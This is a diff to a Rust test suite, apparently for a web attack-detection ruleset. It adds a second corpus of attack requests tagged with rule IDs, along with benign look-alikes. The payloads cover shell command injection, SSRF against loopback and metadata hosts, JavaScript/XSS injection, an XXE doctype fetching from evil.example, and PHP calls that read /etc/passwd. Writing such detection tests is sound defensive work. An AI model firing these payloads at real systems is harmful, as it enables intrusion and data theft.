@@ -781,6 +781,7 @@ fn attacks() -> Vec<(i64, Req)> {
         form(&[("expr", "Runtime.getRuntime().exec(\"id\")")]),
     ]);
     v.extend(attacks_in_headers_and_path());
+    v.extend(second_corpus_attacks());
     v
 }
 
@@ -953,6 +954,7 @@ fn look_alikes() -> Vec<Req> {
     v.push(Req::get("/api/v1/items/42/reviews"));
     v.push(Req::get("/files/UmVwb3J0IDIwMjQucGRm"));
     v.extend(look_alikes_in_headers_and_path());
+    v.extend(second_corpus_look_alikes());
     v
 }
 
@@ -995,6 +997,53 @@ fn ua(v: &str) -> Req {
 fn cookie(v: &str) -> Req {
     hdr("Cookie", &format!("theme=dark; pref={v}; sid=4f1c2a"))
 }
+
+/// Shapes a second attack corpus, written after the rules, found missing
+/// (BENCHMARKS.md, "A second attack corpus"): each in arguments and, where
+/// the family reads them, a header.
+fn second_corpus_attacks() -> Vec<(i64, Req)> {
+    let hdr = |v: &str| Req::get("/account").header("X-Search-Filter", v);
+    vec![
+        // A shell comment ends the command.
+        (4230100, q("; sleep 7 #")),
+        (4230140, hdr("; sleep 7 #")),
+        // Loopback spellings, internal-service ports, the bare metadata host.
+        (4225120, q("http://127.1:22/")),
+        (4225120, q("http://localhost:6379/")),
+        (4225120, q("http://[0:0:0:0:0:ffff:127.0.0.1]/")),
+        (4225120, q("http://metadata/computeMetadata/v1/instance/")),
+        (4225140, hdr("http://127.0.0.1:11211/stats")),
+        // A JavaScript tautology after a closing quote.
+        (4245110, q("' || '1'=='1")),
+        (4245110, json(r#"{"user":"\" && \"a\"===\"a"}"#)),
+        // Out of a JavaScript string into a call.
+        (4250150, q("';alert(String.fromCharCode(88))//")),
+        (4250150, q("\"+document.cookie+\"")),
+        (4250160, hdr("';alert(1)//")),
+        // A PUBLIC doctype whose DTD is off the W3C's site.
+        (4259110, q("<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://evil.example/x.dtd\"><svg/>")),
+        // preg_replace /e, a shell function on a literal.
+        (4235160, q("preg_replace('/.*/e','system(\"id\")','x');")),
+        (4235160, q("system(\"cat /etc/passwd\");")),
+    ]
+}
+
+/// What [`second_corpus_attacks`]' shapes must not catch.
+fn second_corpus_look_alikes() -> Vec<Req> {
+    vec![
+        q("http://localhost:3000/callback"),
+        q("http://127.0.0.1:8080/"),
+        q("http://localhost/phpmyadmin/"),
+        q("sleep 8 hours #health"),
+        q("Don't, alert me please"),
+        q("It's 'great'; fetch me another"),
+        q("a || b == c"),
+        q("<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg/>"),
+        q("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"https://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">"),
+        q("the system ('legacy') is slow"),
+    ]
+}
+
 
 /// Attacks in the places the family rules read beyond arguments: custom
 /// headers, User-Agent, cookies, the path and its segments, plain and
